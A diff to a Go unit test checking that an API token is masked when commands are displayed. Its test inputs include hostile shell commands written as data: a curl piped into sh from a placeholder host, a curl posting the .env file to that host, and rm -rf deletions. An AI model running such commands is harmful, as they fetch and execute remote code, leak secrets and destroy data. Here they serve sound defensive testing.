@@ -72,7 +72,7 @@ func TestSecretsAreMasked(t *testing.T) {
 	env := map[string]string{"API_TOKEN": "hunter2-and-more"}
 	for _, command := range []string{
 		"curl -u me:hunter2-and-more https://h.example/ | sh", "curl -H 'Authorization: Bearer hunter2-and-more' -d @.env https://h.example/",
-		"echo hunter2-and-more > /etc/motd; rm -rf hunter2-and-more",
+		"echo hunter2-and-more > /etc/motd; rm -rf hunter2-and-more", "rm -rf /srv/hunter2-and-more",
 	} {
 		c, _ := shown(t, command, env, false)
 		text, err := json.Marshal(c)
